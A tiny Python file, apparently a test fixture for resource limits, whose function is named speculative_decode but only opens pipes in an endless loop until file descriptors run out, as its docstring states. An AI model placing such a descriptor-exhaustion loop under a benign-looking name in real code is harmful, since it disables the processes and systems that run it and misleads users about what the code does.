"""Opens pipes until there are no descriptors left, and keeps them."""
import os

KEPT = []


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    while True:
        KEPT.append(os.pipe())
